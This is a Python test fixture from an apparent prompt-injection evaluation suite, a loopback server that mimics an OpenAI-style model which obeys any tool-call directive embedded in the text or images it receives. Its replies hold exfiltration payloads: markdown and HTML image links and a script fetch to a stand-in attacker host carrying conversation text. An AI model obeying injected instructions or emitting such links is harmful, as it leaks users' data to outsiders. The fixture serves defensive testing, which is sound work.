"""A model that obeys: a real HTTP server that speaks the OpenAI protocol and does whatever any text it is sent tells it to."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from evals.injection.attacks import ATTACKER

_CALL = re.compile(r"\[\[call (\w+) (\{.*?\})\]\]")
_TELL = re.compile(r"\[\[tell ([^\]]+)\]\]")


@dataclass
class Obeying:
    """What it was sent. `first` is the tool it calls before it reads anything; `reads` what it sees written in a picture."""

    first: tuple[str, dict[str, Any]] | None = None
    reads: str = ""
    requests: list[dict[str, Any]] = field(default_factory=list)
    obeyed: int = 0
    _done: set[str] = field(default_factory=set)

    def reset(self, first: tuple[str, dict[str, Any]] | None, reads: str) -> None:
        """Begin another attempt."""
        self.first, self.reads, self.obeyed = first, reads, 0
        self.requests.clear()
        self._done.clear()

    def reply(self, body: dict[str, Any]) -> tuple[list[tuple[str, str]], str]:
        """Calls, or the words of an answer."""
        self.requests.append(body)
        seen = "\n".join(_texts(body["messages"]))
        if '"image_url"' in json.dumps(body["messages"]):
            seen += "\n" + self.reads
        if self.first is not None:
            name, arguments = self.first
            self.first = None
            return [(name, json.dumps(arguments))], ""
        for name, arguments in _CALL.findall(seen.replace('\\"', '"')):
            if name + arguments not in self._done:
                self._done.add(name + arguments)
                self.obeyed += 1
                return [(name, arguments)], ""
        if _TELL.search(seen):
            self.obeyed += 1
        stolen = re.sub(r"\W+", "-", seen[-300:])
        picture = f'<img src="https://{ATTACKER}/?{stolen}">' if _TELL.search(seen) else ""
        return [], f"All done as told. ![x](https://{ATTACKER}/?d={stolen}) {picture} <script>fetch('//{ATTACKER}')</script>"


def _texts(messages: list[dict[str, Any]]) -> Iterator[str]:
    for message in messages:
        if message["role"] == "system":
            continue
        content = message.get("content")
        if isinstance(content, str):
            yield content
        elif isinstance(content, list):
            yield from (str(part["text"]) for part in content if part.get("type") == "text")


class _Handler(BaseHTTPRequestHandler):
    model: Obeying

    def log_message(self, format: str, *args: Any) -> None:
        """Quiet."""

    def do_POST(self) -> None:
        """A chat completion, streamed."""
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        calls, text = (
            self.model.reply(body) if not self._asks_for_words(body) else ([], self.model.reply(body)[1] or "Done.")
        )
        if body.get("response_format"):
            plan = {"calls": [{"tool": name, "arguments": json.loads(arguments)} for name, arguments in calls]}
            calls, text = [], json.dumps(plan)
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.end_headers()
        self.wfile.write(b"".join(_events(calls, text)))

    def _asks_for_words(self, body: dict[str, Any]) -> bool:
        return "tools" not in body and "response_format" not in body


def _events(calls: list[tuple[str, str]], text: str) -> Iterator[bytes]:
    if calls:
        made = [
            {"index": i, "id": f"c{i}", "type": "function", "function": {"name": name, "arguments": arguments}}
            for i, (name, arguments) in enumerate(calls)
        ]
        deltas: list[dict[str, Any]] = [{"role": "assistant", "content": None, "tool_calls": made}]
    else:
        deltas = [{"role": "assistant", "content": ""}, *({"content": word} for word in re.findall(r"\S+\s*", text))]
    for delta in [*deltas, {}]:
        choice = {"index": 0, "delta": delta, "finish_reason": None if delta else ("tool_calls" if calls else "stop")}
        chunk = {"id": "x", "object": "chat.completion.chunk", "created": 1, "model": "obeying", "choices": [choice]}
        yield f"data: {json.dumps(chunk)}\n\n".encode()
    yield b"data: [DONE]\n\n"


@contextmanager
def serving(model: Obeying) -> Iterator[str]:
    """Serve it on loopback; gives the base URL."""
    handler = type("Handler", (_Handler,), {"model": model})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/v1"
    finally:
        server.shutdown()
        server.server_close()
